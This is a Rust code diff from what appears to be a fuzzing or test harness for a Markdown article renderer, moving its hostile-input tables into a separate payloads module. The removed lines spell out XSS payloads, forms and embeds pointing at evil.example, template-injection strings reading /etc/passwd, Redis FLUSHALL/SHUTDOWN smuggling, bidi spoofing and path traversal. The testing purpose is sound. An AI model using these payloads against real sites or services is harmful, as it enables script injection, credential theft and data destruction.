@@ -1,6 +1,7 @@
 //! What a hostile article tries.
 
 use super::edit::Edit;
+use super::payloads as say;
 use super::rng::Rng;
 
 /// One attempt to do harm: to the reader's browser, the templates, the store, or the machine
@@ -50,83 +51,6 @@ pub enum Attack {
     /// An image source whose URL runs code.
     ScriptImageSource,
 }
-
-/// Blocks of Markdown.
-const SCRIPTS: [&str; 5] = [
-    "<script>alert(1)</script>",
-    "<ScRiPt src=//evil.example/x.js></sCrIpT >",
-    "text <scr<script>ipt>alert(1)</script> text",
-    "<script\n>alert(1)</script\n>",
-    "<svg><script>alert(1)</script></svg>",
-];
-const SCRIPT_URLS: [&str; 7] = [
-    "[click](javascript:alert(1))",
-    "[click](JaVaScRiPt:alert(1))",
-    "[click](java&#x73;cript:alert(1))",
-    "<a href=\"java\tscript:alert(1)\">click</a>",
-    "<a href=' javascript&colon;alert(1)'>click</a>",
-    "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
-    "![image](vbscript:msgbox) and <javascript:alert(1)>",
-];
-const EVENT_HANDLERS: [&str; 5] = [
-    "<img src=x onerror=alert(1)>",
-    "<p onclick=\"alert(1)\">text</p>",
-    "<details open ontoggle=alert(1)>text</details>",
-    "text <b/onmouseover=alert(1)>text</b>",
-    "<svg onload=alert(1)>",
-];
-const EMBEDDINGS: [&str; 7] = [
-    "<iframe src=\"https://evil.example/\"></iframe>",
-    "<object data=\"https://evil.example/x.swf\"></object><embed src=x>",
-    "<style>body { display: none } @import \"//evil.example/x.css\";</style>",
-    "<form action=//evil.example><input name=password><button>Log in</button></form>",
-    "<meta http-equiv=refresh content=\"0;url=//evil.example\"><base href=//evil.example>",
-    "<img name=body id=body src=\"https://example.org/a.png\" style=\"position:fixed\">",
-    "<math><mtext><mglyph><style><img src=x onerror=alert(1)></style></mglyph></mtext></math>",
-];
-const OPEN_MARKUP: [&str; 6] = [
-    "<!-- all of this is gone",
-    "<script>alert(1)",
-    "<textarea>",
-    "<plaintext>",
-    "<![CDATA[ <b>",
-    "<a href=\"https://example.org/",
-];
-const MISNESTED: [&str; 4] = [
-    "<b><i><a href=/x></b></i><p>text</a>",
-    "<table><tr><td><div></table></div><b>text",
-    "</div></article></main></body></html><h1>text</h1>",
-    "<ul><li><p><b><li></ul></p></b>text",
-];
-
-/// Texts of fields, quoted for YAML.
-const TEMPLATES: [&str; 4] = [
-    "\"{{ 7 * 7 }}\"",
-    "\"{% include '/etc/passwd' %}\"",
-    "\"{{ article.__class__ }} ${7 * 7} <%= 7 * 7 %>\"",
-    "\"{# {{ config }} #}{% for x in range(999999999) %}{% endfor %}\"",
-];
-const BREAKOUTS: [&str; 5] = [
-    "\"--></script><script>alert(1)</script>\"",
-    "\"<!--<script>\"",
-    "\"\\\"><img src=x onerror=alert(1)>\"",
-    "\"']]></style></title><svg onload=alert(1)>\"",
-    "\"<!--anp:0123456789abcdef-->\"",
-];
-const BIDI: [&str; 3] = [
-    "\"invoice\u{202e}fdp.exe\"",
-    "\"\u{2067}text\u{2066} // check\u{2069}\"",
-    "\"\\u202Etxet\"",
-];
-const CONTROLS: [&str; 3] = [
-    "\"a\\0b\"",
-    "\"\\e[2J\\e]0;title\\a\"",
-    "\"a\\x9bb\\x7f\\u200b\"",
-];
-const PROTOCOL: [&str; 2] = [
-    "\"x\\r\\n*1\\r\\n$8\\r\\nFLUSHALL\\r\\n\"",
-    "\"x\\n\\nSHUTDOWN NOSAVE\\n\"",
-];
 
 impl Attack {
     /// All of them, each as frequent as the others.
@@ -186,20 +110,20 @@ impl Attack {
     /// Puts the attempt into an article.
     pub(super) fn spoil(self, n: u64, rng: &mut Rng, edit: &mut Edit<'_>) {
         match self {
-            Self::Script => edit.put_block(rng.word(&SCRIPTS)),
-            Self::ScriptUrl => edit.put_block(rng.word(&SCRIPT_URLS)),
-            Self::EventHandler => edit.put_block(rng.word(&EVENT_HANDLERS)),
-            Self::Embedding => edit.put_block(rng.word(&EMBEDDINGS)),
-            Self::OpenMarkup => edit.put_block(rng.word(&OPEN_MARKUP)),
+            Self::Script => edit.put_block(rng.word(&say::SCRIPTS)),
+            Self::ScriptUrl => edit.put_block(rng.word(&say::SCRIPT_URLS)),
+            Self::EventHandler => edit.put_block(rng.word(&say::EVENT_HANDLERS)),
+            Self::Embedding => edit.put_block(rng.word(&say::EMBEDDINGS)),
+            Self::OpenMarkup => edit.put_block(rng.word(&say::OPEN_MARKUP)),
             Self::MisnestedTags => {
-                let soup = rng.word(&MISNESTED);
+                let soup = rng.word(&say::MISNESTED);
                 edit.put_block(soup.repeat(rng.range(1, 8) as usize));
             }
-            Self::TemplateTitle => edit.set("title", rng.word(&TEMPLATES)),
-            Self::Breakout => anywhere(rng.word(&BREAKOUTS), rng, edit),
-            Self::BidiOverride => anywhere(rng.word(&BIDI), rng, edit),
-            Self::Controls => anywhere(rng.word(&CONTROLS), rng, edit),
-            Self::Protocol => anywhere(rng.word(&PROTOCOL), rng, edit),
+            Self::TemplateTitle => edit.set("title", rng.word(&say::TEMPLATES)),
+            Self::Breakout => anywhere(rng.word(&say::BREAKOUTS), rng, edit),
+            Self::BidiOverride => anywhere(rng.word(&say::BIDI), rng, edit),
+            Self::Controls => anywhere(rng.word(&say::CONTROLS), rng, edit),
+            Self::Protocol => anywhere(rng.word(&say::PROTOCOL), rng, edit),
             Self::PathTraversal => {
                 let path = rng.word(&[
                     "../../etc/passwd",
